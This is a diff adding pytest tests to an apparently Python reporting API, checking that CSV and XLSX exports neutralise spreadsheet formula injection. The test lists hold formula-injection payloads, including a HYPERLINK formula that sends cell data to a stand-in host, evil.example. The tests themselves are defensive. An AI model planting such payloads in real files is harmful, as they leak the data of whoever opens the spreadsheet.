@@ -4,7 +4,10 @@ range, weak secrets, user names and passwords, strict types, no-store on secrets
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
+import zipfile
 
 import pytest
 
@@ -122,3 +125,56 @@ def test_access_log_filter_survives_uvicorn_logging_setup(caplog: pytest.LogCapt
         finally:
             logger.removeHandler(caplog.handler)
     assert NID not in caplog.text and "national_id=[redacted]" in caplog.text
+
+
+# -- 2. exports: text is never a formula ------------------------------------------------------
+
+EVIL = ["=2+3", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_export_writes_text_as_text() -> None:
+    from openpyxl import load_workbook
+
+    from api.services.export import to_csv, to_xlsx
+
+    cols = [("name", "Name", "名"), ("n", "N", "数"), ("x", "X", "额")]
+    rows: list[dict[str, object]] = [{"name": v, "n": -3, "x": 1.5} for v in EVIL]
+    rows.append({"name": "total", "n": 7, "x": -0.5})
+    got = list(csv.reader(io.StringIO(to_csv(rows, cols, "en").decode("utf-8-sig"))))
+    assert [r[0] for r in got[1:-1]] == ["'" + v for v in EVIL]
+    assert got[1][1:] == ["-3", "1.5"] and got[-1] == ["Total", "7", "-0.5"]  # numbers untouched
+    ws = load_workbook(io.BytesIO(to_xlsx(rows, cols, "en", "t"))).active
+    assert ws is not None
+    for i, v in enumerate(EVIL, start=2):
+        cell = ws.cell(i, 1)
+        # (XML reads a CR back as LF)
+        assert cell.value in (v, v.replace("\r", "\n")) and cell.data_type == "s", (v, cell.data_type)
+        assert ws.cell(i, 2).value == -3 and ws.cell(i, 2).data_type == "n"
+    # Nothing in the sheet's XML is a formula.
+    with zipfile.ZipFile(io.BytesIO(to_xlsx(rows, cols, "en", "t"))) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
+
+
+@SQLITE
+def test_report_exports_do_not_run_village_names(api: Api) -> None:
+    from openpyxl import load_workbook
+
+    villages = ["=2+3", '=HYPERLINK("http://evil.example","x")', "@SUM(A1)"]
+    ids = []
+    for i, v in enumerate(villages):
+        body = {"code": f"E{i}", "village": v, "township": "-1+1", "members": 2, "registered_poor": True}
+        ids.append(api.ok("manager", "POST", "/api/v1/households", json=body)["id"])
+    api.ok("payroll", "POST", "/api/v1/dividends",
+           json={"paid_on": "2026-03-05", "source": "park", "basis": "per_household", "amount": "100.00",
+                 "household_ids": ids})  # fmt: skip
+    params = {"year": 2026, "by": "village"}
+    r = api.get("poverty_office", "/api/v1/reports/employment", params=params | {"format": "csv"})
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    cells = {c for row in rows[1:] for c in row}
+    assert {"'" + v for v in villages} <= cells and "'-1+1" in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    r = api.get("poverty_office", "/api/v1/reports/employment", params=params | {"format": "xlsx"})
+    ws = load_workbook(io.BytesIO(r.content)).active
+    assert ws is not None
+    texts = {c.value: c.data_type for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
+    assert set(villages) <= set(texts) and set(texts.values()) == {"s"}
